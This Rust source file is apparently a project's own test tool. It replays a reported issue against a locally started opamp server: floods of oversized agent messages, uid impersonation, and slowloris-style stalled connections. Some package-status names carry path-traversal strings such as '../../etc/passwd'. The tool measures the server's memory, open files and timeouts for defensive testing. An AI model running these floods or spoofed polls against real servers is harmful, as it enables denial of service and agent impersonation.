//! Issue 22 as an attacker would play it against the release `opamp server` on loopback, with
//! bounded counts: a flood (huge descriptions, many package statuses, many made-up uids), an
//! impersonation (a poll with another agent's uid), and slow connections (silent WebSockets,
//! stalled download readers, half-sent admin requests). Prints what the server held (memory,
//! open files, agent rows, answer sizes) before, at the peak and after its timeouts.
//!
//! ```text
//! cargo build --release -p opamp-cli -p opamp-benches
//! target/release/attacker                       # starts target/release/opamp server itself
//! target/release/attacker --identity enrollment # the same with per-agent credentials on
//! ```
#![allow(clippy::unwrap_used, clippy::expect_used)] // A measuring tool: failing loudly is right.

use std::io::{BufRead, BufReader};
use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use clap::Parser;
use opamp_benches::procfs;
use opamp_fleet::admin::AdminClient;
use opamp_proto::{AgentCapabilities, InstanceUid, codec, v1};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

#[derive(Parser, Debug)]
#[command(about = "Issue 22 attacks against opamp server on loopback")]
struct Args {
    /// The `opamp` binary (default: next to this one).
    #[arg(long)]
    opamp: Option<PathBuf>,
    /// Polls with a huge description (9,900 attributes of 6 KB each, as in the issue).
    #[arg(long, default_value_t = 15)]
    huge: usize,
    /// Polls under fresh uids with a small, valid description.
    #[arg(long, default_value_t = 1000)]
    uids: usize,
    /// WebSockets that upgrade and never send a message.
    #[arg(long, default_value_t = 1000)]
    silent: usize,
    /// Download readers that take the response head and stop reading.
    #[arg(long, default_value_t = 300)]
    stalled: usize,
    /// Admin connections that send half a request.
    #[arg(long, default_value_t = 500)]
    half_admin: usize,
    /// The server's `[agent_identity] mode`: `dangerous_open` (the default) or `enrollment`
    /// (one agent is enrolled with a token first; it is the impersonation's victim).
    #[arg(long, default_value = "dangerous_open", value_parser = ["dangerous_open", "enrollment"])]
    identity: String,
}

const TOKEN: &str = "attacker-run-admin-token";
const PACKAGE_MIB: usize = 16;

struct Server {
    child: Child,
    opamp: SocketAddr,
    admin: SocketAddr,
    data: PathBuf,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_server(opamp: &PathBuf, dir: &std::path::Path, identity: &str) -> Server {
    std::fs::write(dir.join("admin.token"), format!("{TOKEN}\n")).unwrap();
    let data = dir.join("data");
    // Loopback is exempt from the per-address bound by default (load tests); the attacker is
    // not, so this run counts it. The write timeout is shortened to keep the run short.
    let config = format!(
        "listen = \"127.0.0.1:0\"\ndata_dir = \"{}\"\n[admin]\nlisten = \"127.0.0.1:0\"\n\
         token_file = \"{}\"\n[limits]\nexempt_loopback = false\ndownload_write_timeout = \"5s\"\n\
         [agent_identity]\nmode = \"{identity}\"\n",
        data.display(),
        dir.join("admin.token").display()
    );
    std::fs::write(dir.join("server.toml"), config).unwrap();
    let mut child = Command::new(opamp)
        .args(["server", "--config"])
        .arg(dir.join("server.toml"))
        .env_remove("OPAMP_ADMIN_TOKEN")
        .env("RUST_LOG", "error")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("cannot start opamp server: build it with cargo build --release -p opamp-cli");
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let rest = line
        .trim()
        .strip_prefix("opamp server: agents at ws://")
        .unwrap();
    let (agents, admin) = rest.split_once("/v1/opamp, admin API at http://").unwrap();
    Server {
        child,
        opamp: agents.parse().unwrap(),
        admin: admin.parse().unwrap(),
        data,
    }
}

/// What the server holds at one moment.
struct Held {
    rss_mib: f64,
    fds: usize,
    agent_rows: usize,
    agents_answer_kib: usize,
    metrics_kib: usize,
    store_mib: f64,
}

async fn held(server: &Server, admin: &AdminClient) -> Held {
    let pid = server.child.id();
    // The admin API may be refusing (its connection cap is what the attack fills): retry.
    let mut agents = Vec::new();
    for _ in 0..100 {
        let answer = reqwest::Client::new()
            .get(format!("http://{}/api/v1/agents", server.admin))
            .bearer_auth(TOKEN)
            .send()
            .await;
        if let Ok(answer) = answer
            && answer.status() == 200
        {
            agents = answer.bytes().await.map(|b| b.to_vec()).unwrap_or_default();
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let rows = admin.agents().await.map_or(0, |agents| agents.len());
    let store: u64 = ["fleet.db", "fleet.db-wal"]
        .iter()
        .filter_map(|f| std::fs::metadata(server.data.join(f)).ok())
        .map(|m| m.len())
        .sum();
    Held {
        rss_mib: procfs::memory_kib(pid, "VmRSS:").unwrap() as f64 / 1024.0,
        fds: std::fs::read_dir(format!("/proc/{pid}/fd"))
            .unwrap()
            .count(),
        agent_rows: rows,
        agents_answer_kib: agents.len() / 1024,
        metrics_kib: admin.metrics().await.map_or(0, |m| m.len() / 1024),
        store_mib: store as f64 / (1024.0 * 1024.0),
    }
}

fn print_held(stage: &str, h: &Held) {
    println!(
        "{stage:<28} {:>8.1} {:>6} {:>10} {:>12} {:>11} {:>9.2}",
        h.rss_mib, h.fds, h.agent_rows, h.agents_answer_kib, h.metrics_kib, h.store_mib
    );
}

fn message(uid: InstanceUid) -> v1::AgentToServer {
    v1::AgentToServer {
        instance_uid: uid.to_vec(),
        capabilities: (AgentCapabilities::REPORTS_STATUS
            | AgentCapabilities::REPORTS_HEALTH
            | AgentCapabilities::REPORTS_PACKAGE_STATUSES)
            .bits(),
        agent_description: Some(v1::AgentDescription {
            identifying_attributes: vec![v1::KeyValue::string("service.name", "victim")],
            ..Default::default()
        }),
        health: Some(v1::ComponentHealth {
            healthy: true,
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// One HTTP poll; whether the server accepted it (200 without an error response).
async fn poll(http: &reqwest::Client, server: SocketAddr, message: &v1::AgentToServer) -> bool {
    poll_as(http, server, message, None).await
}

/// One HTTP poll carrying `bearer` (an enrollment token or credential) when given.
async fn poll_as(
    http: &reqwest::Client,
    server: SocketAddr,
    message: &v1::AgentToServer,
    bearer: Option<&str>,
) -> bool {
    let mut request = http
        .post(format!("http://{server}/v1/opamp"))
        .header("content-type", "application/x-protobuf")
        .body(codec::encode(message));
    if let Some(secret) = bearer {
        request = request.bearer_auth(secret);
    }
    let Ok(answer) = request.send().await else {
        return false;
    };
    if answer.status() != 200 {
        return false;
    }
    let bytes = answer.bytes().await.unwrap_or_default();
    codec::decode::<v1::ServerToAgent>(&bytes, &codec::Limits::default())
        .is_ok_and(|answer| answer.error_response.is_none())
}

/// Reads a response head (up to the blank line), for at most `wait`.
async fn read_head(stream: &mut TcpStream, wait: Duration) -> Vec<u8> {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    let _ = tokio::time::timeout(wait, async {
        while !head.ends_with(b"\r\n\r\n") {
            match stream.read(&mut byte).await {
                Ok(1) => head.push(byte[0]),
                _ => return,
            }
        }
    })
    .await;
    head
}

/// Reads what arrives within `wait`; `None` when the peer closed the connection.
async fn read_for(stream: &mut TcpStream, wait: Duration, buf: &mut Vec<u8>) -> Option<()> {
    let mut chunk = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut chunk)).await {
            Err(_) => return Some(()),
            Ok(Ok(0) | Err(_)) => return None,
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
        }
    }
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    rlimit::increase_nofile_limit(u64::MAX).unwrap();
    let opamp = args
        .opamp
        .clone()
        .unwrap_or_else(|| std::env::current_exe().unwrap().with_file_name("opamp"));
    let dir = tempfile::tempdir().unwrap();
    let server = start_server(&opamp, dir.path(), &args.identity);
    let admin = AdminClient::new(&format!("http://{}", server.admin), TOKEN).unwrap();
    let package = dir.path().join("otelcol.bin");
    std::fs::write(&package, vec![7u8; PACKAGE_MIB << 20]).unwrap();
    let entry = admin
        .add_package(&package, "otelcol", "1.0.0", b"")
        .await
        .unwrap();
    // The download route serves `<name>/<version>/<file name>` under `/packages`.
    let file_name = entry
        .file_path
        .file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_default();
    let download_path = format!("/packages/{}/{}/{file_name}", entry.name, entry.version);
    println!(
        "opamp server pid {} (agents {}, admin {}), {}",
        server.child.id(),
        server.opamp,
        server.admin,
        opamp.display()
    );
    println!(
        "{:<28} {:>8} {:>6} {:>10} {:>12} {:>11} {:>9}",
        "stage", "RSS MiB", "fds", "agent rows", "agents KiB", "metrics KiB", "store MiB"
    );
    print_held("idle", &held(&server, &admin).await);

    // With enrollment on, one real agent enrolls first (its token is spent on this poll): it is
    // the impersonation's victim. In open mode the victim is the first flooded uid.
    let http = reqwest::Client::new();
    let mut victim = None;
    if args.identity == "enrollment" {
        let token = admin.create_enrollment_token(None).await.unwrap();
        let uid = InstanceUid::new_v7();
        let enrolled = poll_as(&http, server.opamp, &message(uid), Some(&token.token)).await;
        println!("enrollment: one agent enrolled with a one-time token: {enrolled}");
        victim = enrolled.then_some(uid);
    }

    // ----- flood ---------------------------------------------------------------------
    let started = Instant::now();
    let mut huge_accepted = 0;
    for _ in 0..args.huge {
        let mut huge = message(InstanceUid::new_v7());
        huge.agent_description
            .as_mut()
            .unwrap()
            .non_identifying_attributes = (0..9900)
            .map(|i| v1::KeyValue::string(format!("attribute.{i}"), "x".repeat(6000)))
            .collect();
        huge_accepted += usize::from(poll(&http, server.opamp, &huge).await);
    }
    let mut statuses = message(InstanceUid::new_v7());
    statuses.package_statuses = Some(v1::PackageStatuses {
        packages: (0..9999)
            .map(|i| {
                let name = format!("../../etc/passwd{i}");
                let status = v1::PackageStatus {
                    name: name.clone(),
                    agent_has_version: "1.0.0".into(),
                    agent_has_hash: vec![1],
                    status: v1::PackageStatusEnum::Installed as i32,
                    ..Default::default()
                };
                (name, status)
            })
            .collect(),
        ..Default::default()
    });
    let statuses_accepted = poll(&http, server.opamp, &statuses).await;
    let mut uids = Vec::with_capacity(args.uids);
    for _ in 0..args.uids {
        let uid = InstanceUid::new_v7();
        if poll(&http, server.opamp, &message(uid)).await {
            uids.push(uid);
        }
    }
    println!(
        "flood: {} huge descriptions, {huge_accepted} accepted; 9,999 package statuses accepted: \
         {statuses_accepted}; {} of {} fresh uids accepted ({:.1?})",
        args.huge,
        uids.len(),
        args.uids,
        started.elapsed()
    );
    print_held("after the flood", &held(&server, &admin).await);

    // ----- impersonation -------------------------------------------------------------
    if let Some(victim) = victim.or_else(|| uids.first().copied()) {
        let mut fake = message(victim);
        fake.sequence_num = 1;
        fake.health = Some(v1::ComponentHealth::default()); // healthy = false
        let accepted = poll(&http, server.opamp, &fake).await;
        let agents = admin.agents().await.unwrap();
        let believed = agents
            .iter()
            .find(|a| a.uid == victim)
            .is_some_and(|a| !a.healthy);
        println!(
            "impersonation: a poll with another agent's uid accepted: {accepted}; the server now \
             believes it unhealthy: {believed} (identity {})",
            args.identity
        );
    }

    // ----- slow connections -----------------------------------------------------------
    let upgrade = "GET /v1/opamp HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                   Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
    let mut silent = Vec::new();
    let mut silent_refused = 0;
    for _ in 0..args.silent {
        let Ok(mut stream) = TcpStream::connect(server.opamp).await else {
            silent_refused += 1;
            continue;
        };
        let _ = stream.write_all(upgrade.as_bytes()).await;
        let head = read_head(&mut stream, Duration::from_secs(2)).await;
        if head.starts_with(b"HTTP/1.1 101") {
            silent.push(stream);
        } else {
            silent_refused += 1;
        }
    }
    let mut stalled = Vec::new();
    let mut stalled_refused = 0;
    let mut refusal = String::new();
    for _ in 0..args.stalled {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(4096).unwrap();
        let Ok(mut stream) = socket.connect(server.opamp).await else {
            stalled_refused += 1;
            continue;
        };
        let request = format!("GET {download_path} HTTP/1.1\r\nHost: x\r\n\r\n");
        let _ = stream.write_all(request.as_bytes()).await;
        let head = read_head(&mut stream, Duration::from_secs(2)).await;
        if head.starts_with(b"HTTP/1.1 200") {
            stalled.push(stream);
        } else {
            stalled_refused += 1;
            if refusal.is_empty() {
                refusal = String::from_utf8_lossy(&head)
                    .lines()
                    .next()
                    .unwrap_or("closed")
                    .to_owned();
            }
        }
    }
    let mut half = Vec::new();
    let mut half_refused = 0;
    for _ in 0..args.half_admin {
        let Ok(mut stream) = TcpStream::connect(server.admin).await else {
            half_refused += 1;
            continue;
        };
        let _ = stream
            .write_all(b"GET /api/v1/agents HTTP/1.1\r\nHost: x\r\nAuthori")
            .await;
        half.push(stream);
    }
    // Refusals (503) come at once; half-sent requests that were let in hear nothing yet.
    let mut half_open = Vec::new();
    for mut stream in half {
        let mut got = Vec::new();
        if read_for(&mut stream, Duration::from_millis(20), &mut got)
            .await
            .is_some()
            && got.is_empty()
        {
            half_open.push(stream);
        } else {
            half_refused += 1;
        }
    }
    println!(
        "slow: silent WebSockets {} held, {silent_refused} refused; stalled downloads {} held, \
         {stalled_refused} refused ({refusal}); half-sent admin requests {} held, {half_refused} refused",
        silent.len(),
        stalled.len(),
        half_open.len()
    );
    let probe = Instant::now();
    let answered = admin.agents().await.is_ok();
    println!(
        "admin API during the attack: answered {answered} in {:.1?}",
        probe.elapsed()
    );
    print_held("peak of the slow attacks", &held(&server, &admin).await);

    // The longest of the server's timeouts: 10 s first message and admin headers, 5 s writes.
    tokio::time::sleep(Duration::from_secs(12)).await;
    let mut silent_closed = 0;
    for mut stream in silent {
        let mut got = Vec::new();
        silent_closed += usize::from(
            read_for(&mut stream, Duration::from_millis(50), &mut got)
                .await
                .is_none(),
        );
    }
    let mut half_closed = 0;
    for mut stream in half_open {
        let mut got = Vec::new();
        half_closed += usize::from(
            read_for(&mut stream, Duration::from_millis(50), &mut got)
                .await
                .is_none(),
        );
    }
    let mut stalled_dropped = 0;
    for mut stream in stalled {
        let mut got = Vec::new();
        let closed = read_for(&mut stream, Duration::from_secs(2), &mut got)
            .await
            .is_none();
        stalled_dropped += usize::from(closed && got.len() < PACKAGE_MIB << 20);
    }
    println!(
        "after 12 s: silent WebSockets closed by the server {silent_closed}; stalled downloads \
         dropped before the end {stalled_dropped}; half-sent admin requests closed {half_closed}"
    );
    print_held("after the server's timeouts", &held(&server, &admin).await);
}
